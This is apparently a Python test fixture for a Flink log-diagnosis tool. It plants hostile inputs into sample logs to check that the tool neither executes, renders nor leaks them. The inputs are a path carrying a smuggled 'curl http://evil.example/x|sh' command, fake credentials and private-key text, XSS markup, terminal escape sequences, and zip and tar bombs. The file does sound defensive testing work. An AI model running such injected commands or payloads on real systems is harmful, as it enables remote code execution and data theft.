"""The hostile corpus (issue #8): real log lines of the seeds and the fault lab with attacks planted in their values.

Shared by tests/test_hostile.py (what each view and the work dir show) and tests/test_answers.py (its answer is
pinned with the rest of the labelled corpus); conftest.py diagnoses it once per session.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

from conftest import DATA

SEED3 = DATA / "seeds" / "003"
EXE = [sys.executable, "-m", "flinkdoctor"]
EVIL_PATH = "/data/out/part-0;curl${IFS}-s${IFS}http://evil.example/x|sh;#.in-progress"
CONFIG_LINE = (
    "2026-11-22 11:08:47,766 INFO  org.apache.flink.configuration.GlobalConfiguration           [] - "
    "Loading configuration property: {key}, {value}"
)  # real 1.20.3 line; older Flink prints raw values
SECRETS = {
    "config-dump": ("s3.secret-key", "AKIAIOSFODNN7SECRET1"),
    "config-dump-token": ("security.delegation.token.provider.x.token", "tok-9f8e7d6c5b4a"),
    "jaas": (
        "properties.sasl.jaas.config",
        'org.apache.kafka.common.security.plain.PlainLoginModule required username="svc" password="Jaas-Pw-77";',
    ),
}
URL_SECRETS = [
    "jdbc:postgresql://admin:S3cret-Pg-55@db.internal:5432/orders",
    "https://deploy:ghp_Token0123456789abcdef@git.example.com/repo.git",
]
HEADER_SECRET = "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.c2VjcmV0LXBheWxvYWQ.sig-Zz99"
PRIVATE_KEY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7-private-body"
SECRET_VALUES = [
    "AKIAIOSFODNN7SECRET1",
    "tok-9f8e7d6c5b4a",
    "Jaas-Pw-77",
    "S3cret-Pg-55",
    "ghp_Token0123456789abcdef",
    "c2VjcmV0LXBheWxvYWQ",
    PRIVATE_KEY,
]
MARKUP = " <script>alert(1)</script><img src=x onerror=alert(2)> | [click](http://evil.example) `x` **b**"
ESCAPES = "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"


def run_cli(*args, env=None, cwd=None):
    env = {**os.environ, "SPARK_LOCAL_IP": "127.0.0.1", **(env or {})}
    return subprocess.run(
        [*EXE, *args], capture_output=True, text=True, env=env, timeout=600, cwd=cwd, stdin=subprocess.DEVNULL
    )


def true_lines(data: bytes) -> int:
    return data.count(b"\n") + (1 if data and not data.endswith(b"\n") else 0)


def hostile_bundle(root: Path) -> dict[str, bytes]:
    """Seed 003 (a host stall whose fix is `hdfs debug recoverLease -path FILE`) with every kind of hostile input
    planted; returns what each readable file holds, to count its lines."""
    root.mkdir()
    files: dict[str, bytes] = {}
    jstack = (SEED3 / "jstack-taskmanager.txt").read_text()
    files["jstack-taskmanager.txt"] = jstack.replace(
        "/data/BaseData/flinksql/TCFlyIntB2BTrade_flight_segment_info/2019/04/23/tmp-part-0-6.in-progress", EVIL_PATH
    ).encode()
    jobmanager = (SEED3 / "jobmanager.log").read_bytes()
    first = jobmanager.split(b"\n", 1)[0].decode()  # a real header; its message carries the planted text
    planted = [CONFIG_LINE.format(key=k, value=v) for k, v in SECRETS.values()]
    planted += [first + " " + url for url in URL_SECRETS]
    planted += [first + " request header " + HEADER_SECRET]
    planted += [first + " key material", "-----BEGIN PRIVATE KEY-----", PRIVATE_KEY, "-----END PRIVATE KEY-----"]
    files["jobmanager.log"] = jobmanager + ("\n".join(planted) + "\n").encode()
    # the root cause's own evidence line (the soft lockup) carries escape sequences
    messages = (SEED3 / "messages").read_text().splitlines(keepends=True)
    lockup = next(i for i, line in enumerate(messages) if "soft lockup" in line)
    messages[lockup] = messages[lockup].rstrip("\n") + " " + ESCAPES + MARKUP + "\n"
    files["messages"] = "".join(messages).encode()
    files["taskmanager.log"] = (SEED3 / "taskmanager.log").read_bytes()
    # names a terminal view would once have rendered as a hyperlink, or crashed on
    files["[link=http:/evil.example]click[/link].log"] = (SEED3 / "taskmanager.log").read_bytes()[:2000]
    files["x[/red]y.log"] = (DATA / "seeds" / "004" / "taskmanager.log").read_bytes()[:1500]
    files["empty.log"] = b""
    for name, data in files.items():  # a name with '/' is folders whose path reads as markup
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.log", b"\0" * (256 << 20))
    (root / "bomb.zip").write_bytes(bomb.getvalue())
    return files


def bomb_among_logs(bundle: Path) -> Path:
    """A real TaskManager log beside a tar.gz that unpacks to 256 MiB of zeros: the bomb is skipped, the log read."""
    bundle.mkdir()
    (bundle / "taskmanager.log").write_bytes((DATA / "seeds" / "004" / "taskmanager.log").read_bytes())
    with tarfile.open(bundle / "logs.tar.gz", "w:gz") as archive:
        info = tarfile.TarInfo("zeros.log")
        info.size = 256 << 20
        archive.addfile(info, io.BytesIO(b"\0" * info.size))
    return bundle


def hostile_files(bundle: Path) -> dict[str, bytes]:
    """What each readable file of a built hostile bundle holds (the bomb aside), by its path in the bundle."""
    return {
        path.relative_to(bundle).as_posix(): path.read_bytes()
        for path in sorted(bundle.rglob("*"))
        if path.is_file() and path.name != "bomb.zip"
    }
